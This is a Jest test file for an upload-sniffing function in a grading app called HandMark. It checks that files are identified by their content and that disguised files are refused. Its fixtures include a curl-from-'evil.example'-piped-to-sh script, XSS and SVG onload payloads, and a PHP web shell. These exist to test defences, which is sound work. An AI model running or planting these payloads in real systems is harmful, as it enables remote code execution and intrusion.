import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from '@jest/globals';
import sharp from 'sharp';
import { DomainError } from '../../libs/errors/domain-error.js';
import { sniffUpload } from '../../libs/media/sniff.js';
import { buildPdf } from '../factories/pdf.js';

const fixtures = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../fixtures/handwriting');
const handwritingPng = readFileSync(path.join(fixtures, 'hw-formula1.png'));

function rejection(bytes: Uint8Array, fileName: string): DomainError {
  try {
    sniffUpload(bytes, fileName);
  } catch (error) {
    if (error instanceof DomainError) return error;
    throw error;
  }
  throw new Error(`${fileName} was accepted`);
}

describe('sniffUpload', () => {
  it('identifies images by their bytes, whatever their name says', async () => {
    const jpeg = await sharp(handwritingPng).jpeg().toBuffer();
    const webp = await sharp(handwritingPng).webp().toBuffer();

    expect(sniffUpload(handwritingPng, 'photo.jpg')).toEqual({ format: 'png', kind: 'image', mimeType: 'image/png', extension: 'png' });
    expect(sniffUpload(jpeg, 'scan')).toMatchObject({ format: 'jpeg', kind: 'image', mimeType: 'image/jpeg' });
    expect(sniffUpload(webp, 'IMG_0042.PNG')).toMatchObject({ format: 'webp', kind: 'image', mimeType: 'image/webp' });
  });

  it('identifies a PDF by its %PDF- header', async () => {
    const pdf = await buildPdf([{ text: 'Quiz 3' }]);

    expect(sniffUpload(pdf, 'class-set.pdf')).toEqual({ format: 'pdf', kind: 'pdf', mimeType: 'application/pdf', extension: 'pdf' });
  });

  it('takes a typed essay in UTF-8, with or without a byte order mark', () => {
    const essay = Buffer.from('My summer — a short essay.\r\n\tÉté, 夏, 🌞.\n');

    expect(sniffUpload(essay, 'essay.txt')).toEqual({ format: 'text', kind: 'text', mimeType: 'text/plain; charset=utf-8', extension: 'txt' });
    expect(sniffUpload(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), essay]), 'essay')).toMatchObject({ format: 'text' });
  });

  it('refuses a script named like a PNG, naming the file and what it really is', () => {
    const error = rejection(Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'), 'homework.png');

    expect(error).toMatchObject({ kind: 'unsupported', code: 'UNSUPPORTED_FILE_TYPE' });
    expect(error.message).toContain('homework.png is a script (/bin/sh)');
  });

  it.each([
    ['page.html', '<!DOCTYPE html><html><body><script>alert(1)</script></body></html>', 'an HTML page'],
    ['answers.png', '  <html><head></head></html>', 'an HTML page'],
    ['drawing.svg', '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>', 'an SVG image'],
    ['drawing2.png', '<svg xmlns="http://www.w3.org/2000/svg"></svg>', 'an SVG image'],
    ['shell.php', '<?php system($_GET["c"]); ?>', 'a PHP script'],
  ])('refuses markup and scripts: %s', (fileName, content, what) => {
    const error = rejection(Buffer.from(content), fileName);

    expect(error.kind).toBe('unsupported');
    expect(error.message).toContain(`${fileName} is ${what}`);
  });

  it('refuses a GIF and says so', async () => {
    const gif = await sharp(handwritingPng).gif().toBuffer();

    expect(rejection(gif, 'doodle.gif').message).toContain('doodle.gif is a GIF image');
  });

  it('refuses a HEIC photo and says HEIC is not supported yet', () => {
    const heicHeader = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic\0\0\0\0mif1heic', 'latin1'), Buffer.alloc(64)]);

    const error = rejection(heicHeader, 'IMG_1234.HEIC');

    expect(error).toMatchObject({ kind: 'unsupported', code: 'UNSUPPORTED_FILE_TYPE' });
    expect(error.message).toContain('IMG_1234.HEIC is a HEIC photo, which is not supported yet');
  });

  it('recognises a Word document and suggests saving it as PDF', () => {
    const docx = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(26), Buffer.from('[Content_Types].xml....word/document.xml', 'latin1')]);

    expect(rejection(docx, 'essay.docx').message).toContain('essay.docx is a Word document (save it as PDF)');
  });

  it.each([
    ['binary with NULs', Buffer.from([0x41, 0x42, 0x00, 0x43, 0x44])],
    ['Latin-1 text that is not valid UTF-8', Buffer.from('caf\xe9 au lait', 'latin1')],
    ['random bytes', Buffer.from([0x13, 0x37, 0xc0, 0xff, 0xee, 0x00, 0x01])],
  ])('refuses %s as an unknown type', (_label, bytes) => {
    const error = rejection(bytes, 'mystery.bin');

    expect(error.kind).toBe('unsupported');
    expect(error.message).toContain('mystery.bin is not a file type HandMark can read');
  });

  it('says to save UTF-16 text as UTF-8', () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Essay', 'utf16le')]);

    expect(rejection(utf16, 'essay.txt').message).toContain('essay.txt is UTF-16 text (save it as UTF-8 text)');
  });

  it('refuses text behind an image or PDF name instead of guessing', () => {
    const error = rejection(Buffer.from('just some words'), 'scan.pdf');

    expect(error.kind).toBe('unsupported');
    expect(error.message).toContain('scan.pdf is named like a .pdf file but contains plain text');
  });

  it('treats an empty file as unprocessable', () => {
    expect(rejection(Buffer.alloc(0), 'empty.jpg')).toMatchObject({ kind: 'unprocessable', code: 'EMPTY_FILE', message: 'empty.jpg is empty' });
  });

  it('keeps control characters of a hostile file name out of the message', () => {
    const error = rejection(Buffer.from('#!/bin/sh\n'), 'a\u001b[31mred\u0000.png');

    expect(error.message.startsWith('a[31mred.png is a script')).toBe(true);
  });
});
